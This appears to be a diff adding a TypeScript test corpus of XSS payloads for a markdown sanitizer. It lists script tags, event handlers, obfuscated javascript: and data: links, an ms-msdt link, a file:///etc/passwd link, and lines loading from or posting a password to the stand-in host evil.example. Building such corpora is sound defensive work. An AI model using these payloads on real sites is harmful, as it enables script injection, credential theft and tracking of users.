@@ -1,0 +1,182 @@
+const NUL = '\u0000';
+const ZERO_WIDTH = '\u200b';
+const LINE_SEPARATOR = '\u2028';
+
+/** Texts that try to run code, load something or send something. Named by the way they take. */
+export const xssCorpus: Array<[way: string, markdown: string]> = [
+  // Elements written as HTML.
+  ['script', '<script>alert(1)</script>'],
+  ['script in capitals', '<SCRIPT>alert(1)</SCRIPT>'],
+  ['script with source', '<script src=https://evil.example/x.js></script>'],
+  ['script split by a space', '<script >alert(1)</script >'],
+  ['script inside script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
+  ['script never closed', '<script>alert(1)//'],
+  ['svg onload', '<svg onload=alert(1)>'],
+  ['svg onload with a slash', '<svg/onload=alert(1)>'],
+  ['svg script', '<svg><script href="data:,alert(1)"/></svg>'],
+  [
+    'svg animate',
+    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>',
+  ],
+  [
+    'svg foreignObject',
+    '<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>',
+  ],
+  [
+    'svg use',
+    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
+  ],
+  ['img onerror', '<img src=x onerror=alert(1)>'],
+  ['img onerror without spaces', '<img/src=x/onerror=alert(1)>'],
+  ['img onerror with backticks', '<img src=`x`onerror=alert(1)>'],
+  ['img srcset', '<img srcset="https://evil.example/a.png 1x" src=x>'],
+  ['image of a tracker', '<img src="https://evil.example/pixel.gif">'],
+  ['video onerror', '<video><source onerror="alert(1)"></video>'],
+  ['audio autoplay', '<audio src=x autoplay onerror=alert(1)>'],
+  ['body onload', '<body onload=alert(1)>'],
+  ['details ontoggle', '<details open ontoggle=alert(1)>x</details>'],
+  ['input autofocus', '<input autofocus onfocus=alert(1)>'],
+  ['marquee onstart', '<marquee onstart=alert(1)>x</marquee>'],
+  ['style element', '<style>@import "https://evil.example/x.css";</style>'],
+  ['style attribute', '<p style="background:url(javascript:alert(1))">x</p>'],
+  ['link stylesheet', '<link rel=stylesheet href=https://evil.example/x.css>'],
+  [
+    'meta refresh',
+    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+  ],
+  ['base', '<base href="https://evil.example/">'],
+  ['iframe', '<iframe src="javascript:alert(1)"></iframe>'],
+  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
+  [
+    'object',
+    '<object data="data:text/html,<script>alert(1)</script>"></object>',
+  ],
+  ['embed', '<embed src="javascript:alert(1)">'],
+  [
+    'math',
+    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+  ],
+  ['math href', '<math href="javascript:alert(1)">x</math>'],
+  ['template', '<template><script>alert(1)</script></template>'],
+  ['noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
+  [
+    'form',
+    '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
+  ],
+  ['formaction', '<button formaction="javascript:alert(1)">x</button>'],
+  ['isindex', '<isindex type=image src=1 onerror=alert(1)>'],
+  ['comment', '<!--><img src=x onerror=alert(1)>-->'],
+  [
+    'conditional comment',
+    '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
+  ],
+  ['CDATA', '<![CDATA[<script>alert(1)</script>]]>'],
+  ['processing instruction', '<?xml-stylesheet href="javascript:alert(1)"?>'],
+  ['html inside a list', '- item\n  <img src=x onerror=alert(1)>'],
+  ['html inside a table', '| a |\n|---|\n| <img src=x onerror=alert(1)> |'],
+  ['html after a fence that never closes', '```\n<script>alert(1)</script>\n'],
+
+  // Links.
+  ['javascript link', '[x](javascript:alert(1))'],
+  ['mixed case', '[x](JaVaScRiPt:alert(1))'],
+  [
+    'decimal entities',
+    '[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))',
+  ],
+  ['hexadecimal entities', '[x](&#x6A;avascript&#x3A;alert(1))'],
+  ['long entities', '[x](&#0000106avascript&#0000058alert(1))'],
+  ['named colon', '[x](javascript&colon;alert(1))'],
+  ['tab entity inside', '[x](java&Tab;script:alert(1))'],
+  ['newline entity inside', '[x](java&NewLine;script:alert(1))'],
+  ['percent encoding', '[x](javascript%3Aalert(1))'],
+  ['leading space entity', '[x](&#32;javascript:alert(1))'],
+  ['leading control character', '[x](<\u0001javascript:alert(1)>)'],
+  ['nul inside', `[x](java${NUL}script:alert(1))`],
+  ['zero width inside', `[x](java${ZERO_WIDTH}script:alert(1))`],
+  ['line separator in front', `[x](<${LINE_SEPARATOR}javascript:alert(1)>)`],
+  ['full width letters', '[x](ｊａｖａｓｃｒｉｐｔ:alert(1))'],
+  ['full width colon', '[x](javascript：alert(1))'],
+  ['right-to-left override', '[x](\u202ejavascript:alert(1))'],
+  ['backslashes', '[x](\\javascript:alert\\(1\\))'],
+  ['angle brackets', '[x](<javascript:alert(1)>)'],
+  ['comment trick', '[x](javascript://evil.example/%0aalert(1))'],
+  ['vbscript', '[x](vbscript:msgbox(1))'],
+  ['livescript', '[x](livescript:alert(1))'],
+  ['data html', '[x](data:text/html,<script>alert(1)</script>)'],
+  [
+    'data base64',
+    '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+  ],
+  ['data svg', '[x](data:image/svg+xml,<svg onload=alert(1)>)'],
+  ['blob', '[x](blob:https://evil.example/1)'],
+  ['file', '[x](file:///etc/passwd)'],
+  ['view-source', '[x](view-source:javascript:alert(1))'],
+  ['jar', '[x](jar:https://evil.example/x.jar!/)'],
+  ['other programs', '[x](ms-msdt:/id PCWDiagnostic)'],
+  ['protocol relative', '[x](//evil.example/x)'],
+  ['protocol relative with backslashes', '[x](\\\\\\\\evil.example/x)'],
+  ['slash backslash', '[x](/\\\\evil.example/x)'],
+  ['reference link', '[x][y]\n\n[y]: javascript:alert(1)'],
+  ['reference link, shortcut', '[x]\n\n[x]: <javascript:alert(1)> "title"'],
+  ['reference image', '![x][y]\n\n[y]: javascript:alert(1)'],
+  ['autolink', '<javascript:alert(1)>'],
+  ['autolink in capitals', '<JAVASCRIPT:alert(1)>'],
+  ['autolink data', '<data:text/html,<script>alert(1)</script>>'],
+  ['bare autolink with markup', 'https://evil.example/"onmouseover="alert(1)'],
+  ['www autolink', 'www.evil.example/<script>alert(1)</script>'],
+  [
+    'title breaks out',
+    '[x](https://example.com "\\" onmouseover=\\"alert(1)")',
+  ],
+  ['text breaks out', '[<img src=x onerror=alert(1)>](https://example.com)'],
+  ['link inside link', '[a [b](javascript:alert(1))](https://example.com)'],
+  [
+    'footnote',
+    'x[^1]\n\n[^1]: [y](javascript:alert(1)) <script>alert(1)</script>',
+  ],
+
+  // Images.
+  ['javascript image', '![x](javascript:alert(1))'],
+  [
+    'data image',
+    '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
+  ],
+  [
+    'image description breaks out',
+    '![x" onerror="alert(1)](https://example.com/a.png)',
+  ],
+  ['remote image', '![tracker](https://evil.example/pixel.gif)'],
+  ['image inside a link', '[![x](javascript:alert(1))](javascript:alert(2))'],
+
+  // Names that mean something to JavaScript.
+  ['constructor', '<constructor>x</constructor>'],
+  ['__proto__', '<__proto__ onclick=alert(1)>x</__proto__>'],
+  ['language of a fence', '```constructor onload=alert(1)\nx\n```'],
+  ['language that breaks out', '```"><script>alert(1)</script>\nx\n```'],
+  [
+    'reference named constructor',
+    '[constructor]\n\n[toString]: javascript:alert(1)\n[toString]',
+  ],
+  [
+    'id that shadows',
+    '<a id=location href=javascript:alert(1)>x</a><p name=cookie>',
+  ],
+
+  // Broken nesting.
+  ['emphasis around a tag', '**<script>**alert(1)</script>'],
+  [
+    'quote and list',
+    '> - > <svg/onload=alert(1)>\n> 1. [x](javascript:alert(1))',
+  ],
+  [
+    'table cell with a link',
+    '| [x](javascript:alert(1)) |\n|:-:|\n| ![x](javascript:alert(1)) |',
+  ],
+  [
+    'task list',
+    '- [x] <img src=x onerror=alert(1)>\n- [ ] [x](javascript:alert(1))',
+  ],
+  ['code span that never closes', '`<script>alert(1)</script>'],
+  ['escaped then not', '\\<script>alert(1)\\</script>'],
+  ['html block then markdown', '<div>\n\n[x](javascript:alert(1))\n\n</div>'],
+];
